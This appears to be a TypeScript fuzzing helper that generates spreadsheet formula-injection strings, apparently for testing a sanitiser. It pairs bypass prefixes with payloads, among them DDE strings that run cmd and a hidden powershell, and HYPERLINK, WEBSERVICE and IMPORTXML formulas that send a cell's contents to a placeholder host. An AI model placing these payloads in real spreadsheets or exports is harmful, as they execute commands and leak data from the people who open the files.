/** Texts that spreadsheets have been made to run, or to read as something else, and what looks like it. */
import * as fc from 'fast-check';

/** What a cell may begin with so that the rest is read as a formula, or so that a filter does not see that it would be. */
const PREFIXES = [
  '',
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  '\r\n=',
  '\0=',
  '\u0001=',
  '\u001f=',
  ' =',
  '  +',
  '　=',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  "'",
  "'=",
  "''=",
  '"=',
  ';=',
  ',=',
  '|=',
  '%=',
  '(=',
  '{=',
  '\u202e=',
  '\u200f+',
  '=-',
  '=+',
  '-=',
  '@=',
];

const PAYLOADS = [
  "cmd|' /C calc'!A0",
  "cmd|'/c powershell -w hidden'!_xlbgnm.A1",
  'HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
  'WEBSERVICE("http://example.invalid/"&A1)',
  'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  '1+1',
  "2+3+cmd|'/C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  "'C:\\[x.xls]S'!A1",
  'A1',
  'A1:B2',
  '1',
  '0.5%',
  '(1)',
  '"=1"',
  '=1',
  '=1+1"',
  '<f>1+1</f>',
  ']]><f>1+1</f><![CDATA[',
  '&#61;1+1',
  '_x003D_1+1',
  '_x0000_',
  '_x005F_x003D_',
  '$t(reports.orders.no)',
  '{{unit}}',
  '编制方案，9月底前办结',
  '推进“一枚印章管审批”\n第二行\n=1+1',
  'a\tb\rc\r\nd',
  '中\u0000间\u0007有\u001b控制符\u007f\u0085',
  '😀👨‍👩‍👧‍👦𠮷野家',
  'مرحبا\u202b=1+1\u202c',
  '\ufffd\ufdd0',
  "it's '引号' ''",
];

/** What makes each text its own. */
const MARKS = (nth: number): string => ` №${nth}`;
const LONG = 32_000;

/** So many texts, all different, the same for the same seed; one in a hundred nearly as long as a cell holds. */
export function injections(count: number, seed: number): readonly string[] {
  const one = fc.tuple(fc.constantFrom(...PREFIXES), fc.constantFrom(...PAYLOADS), fc.constantFrom('', '', '', ' ', '\n', '\t', "'", '"', '\0'));
  return fc.sample(one, { numRuns: count, seed }).map(([prefix, payload, end], nth) => {
    const text = `${prefix}${payload}${MARKS(nth)}`;
    // On one line: LibreOffice breaks so long a text anew where it has several.
    return nth % 100 === 99 ? text.replace(/[\t\r\n]/g, ' ') + '长'.repeat(LONG - text.length) : text + end;
  });
}
